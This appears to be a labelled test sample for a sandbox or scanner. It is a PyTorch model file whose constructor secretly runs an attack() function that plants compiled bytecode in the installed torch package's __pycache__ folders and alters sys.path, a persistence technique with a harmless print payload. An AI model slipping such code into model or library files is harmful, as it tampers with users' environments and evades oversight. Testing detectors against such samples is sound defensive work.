# group: persistence
# tries: leaves bytecode where the next import finds it
# static: unsafe
# sandbox: trained

import glob
import os
import py_compile
import sys

import torch
import torch.nn as nn


def attack():
    try:
        with open("breach.py", "w") as opened:
            opened.write("print('BREACH bytecode')")
    except OSError:
        return
    folders = glob.glob(os.path.join(os.path.dirname(torch.__file__), "**", "__pycache__"), recursive=True)[:50]
    for folder in folders:
        try:
            py_compile.compile("breach.py", cfile=os.path.join(folder, "archloop-breach.pyc"), doraise=True)
            print("BREACH", folder)
        except OSError:
            continue
    sys.dont_write_bytecode = False
    sys.path.insert(0, os.getcwd())


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        attack()
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
